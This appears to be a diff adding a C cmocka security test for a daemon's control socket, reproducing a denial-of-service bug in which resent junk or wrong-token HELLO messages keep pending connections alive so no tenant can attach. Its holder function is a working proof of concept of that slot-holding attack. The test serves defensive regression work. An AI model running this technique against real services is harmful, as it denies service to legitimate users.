@@ -1,0 +1,173 @@
+// SPDX-License-Identifier: MIT
+/*
+ * Any local process holds every pending slot of the control socket, for as
+ * long as it likes, without a token. Connections that have not attached are
+ * capped (admin.max_pending) and meant to be closed after
+ * admin.hello_timeout_ms (docs/security.md), but conn_readable
+ * (dataplane/control.c) sets the deadline again on every well-formed
+ * message of an unattached connection, whatever it was and however it was
+ * answered: an unknown type (-EOPNOTSUPP), a HELLO with a wrong token
+ * (-EACCES, the connection stays open for the next guess), an admin request
+ * without credentials (-EPERM). A pod that opens max_pending connections and
+ * sends one such message on each a little more often than the timeout keeps
+ * them forever; every new connection is closed at once. No client of any
+ * tenant can attach, and `roshmctl status` (the DaemonSet's liveness probe,
+ * k8s/base/daemonset.yaml) fails, so the kubelet restarts roshmd, and again.
+ *
+ * The attacker holds max_pending (4) connections: two send a message of an
+ * unknown type, two a HELLO of tenant "b" with a wrong token, each every
+ * 150 ms (hello_timeout_ms is 500). After 1.5 s (three timeouts):
+ * expected, tenant b attaches and completes a NOP, and the node admin's
+ * "status" answers, each within 3 s.
+ *
+ * How it fails on today's code (adv at 02924eb), 5 of 5 runs:
+ *   "tenant b could not attach while the attacker held its 4 connections
+ *    (1.5 s, three hello timeouts): exit 1; the admin's "status": -104
+ *    (Connection reset by peer)" (the child said "roshm_open: -104": each
+ *    new connection is closed at once, there is no pending slot for it)
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include "attack.h"
+
+#define PENDING 4
+#define TIMEOUT_MS 500
+
+static struct th_daemon d;
+static char workdir[128], token_file[256];
+static char admin_token[ROSHM_ADMIN_TOKEN_MAX];
+
+static int holder(void *arg)
+{
+	int fds[PENDING];
+
+	(void)arg;
+	for (int i = 0; i < PENDING; i++) {
+		fds[i] = atk_ctl_connect(d.sock);
+		if (fds[i] < 0)
+			return 1;
+	}
+	for (;;) {
+		for (int i = 0; i < PENDING; i++) {
+			struct roshm_ctl_hello h;
+			char junk[64];
+
+			memset(&h, 0, sizeof(h));
+			if (i % 2) {
+				atk_ctl_hdr(&h.hdr, ROSHM_CTL_HELLO, sizeof(h));
+				strcpy(h.tenant, "b");
+				snprintf(h.token, sizeof(h.token), "guess-%d", rand());
+			} else {
+				atk_ctl_hdr(&h.hdr, 99, sizeof(h.hdr));
+			}
+			send(fds[i], &h, h.hdr.len, MSG_NOSIGNAL | MSG_DONTWAIT);
+			/* the answers are read and dropped */
+			while (recv(fds[i], junk, sizeof(junk), MSG_DONTWAIT) > 0)
+				;
+		}
+		usleep(150000);
+	}
+	return 0;
+}
+
+static int attach_b(void *arg)
+{
+	struct roshm *r;
+	int err;
+
+	(void)arg;
+	r = atk_open(&d, "b", NULL, &err);
+	if (!r) {
+		fprintf(stderr, "roshm_open: %d (%s)\n", err, strerror(-err));
+		return 1;
+	}
+	err = roshm_nop_sync(r);
+	roshm_close(r);
+	return err ? 2 : 0;
+}
+
+static int admin_status(void)
+{
+	struct roshm_params p = { .sock_path = d.sock, .admin_token = admin_token };
+	char *json = NULL;
+	int ret = roshm_admin_params(&p, "status", &json);
+
+	free(json);
+	return ret;
+}
+
+static void test_pending_slots_held(void **state)
+{
+	pid_t pid;
+	int b, st;
+
+	(void)state;
+	/* with nobody holding them, both work */
+	assert_int_equal(atk_run_bounded(attach_b, NULL, 3000), 0);
+	assert_int_equal(admin_status(), 0);
+	pid = th_spawn(holder, NULL);
+	assert_true(pid > 0);
+	usleep(3 * TIMEOUT_MS * 1000);
+	b = atk_run_bounded(attach_b, NULL, 3000);
+	st = admin_status();
+	kill(pid, SIGKILL);
+	atk_wait_child(pid, 2000);
+	atk_assert_alive(&d);
+	if (b || st)
+		fail_msg("tenant b could not attach while the attacker held its %d connections (1.5 s, "
+			 "three hello timeouts): exit %d; the admin's \"status\": %d (%s)", PENDING, b,
+			 st, st ? strerror(-st) : "answered");
+}
+
+static int setup(void **state)
+{
+	char extra[1024], secret[256];
+	FILE *f;
+
+	(void)state;
+	th_cleanup_enable();
+	if (atk_workdir(workdir, sizeof(workdir), secret, sizeof(secret)))
+		return -1;
+	snprintf(token_file, sizeof(token_file), "%s/admin.token", workdir);
+	snprintf(extra, sizeof(extra),
+		 "admin: { token_file = \"%s\"; max_pending = %d; hello_timeout_ms = %d; };\n%s",
+		 token_file, PENDING, TIMEOUT_MS, ATK_TENANTS);
+	if (th_daemon_start(&d, "sec-pend", extra))
+		return -1;
+	f = fopen(token_file, "r");
+	if (!f || !fgets(admin_token, sizeof(admin_token), f))
+		return -1;
+	fclose(f);
+	admin_token[strcspn(admin_token, "\n")] = 0;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	(void)state;
+	if (atk_alive(&d) && th_daemon_stop(&d)) {
+		th_daemon_dump_log(&d);
+		return -1;
+	}
+	return 0;
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_pending_slots_held),
+	};
+
+	return cmocka_run_group_tests_name("pending_hold", tests, setup, teardown);
+}
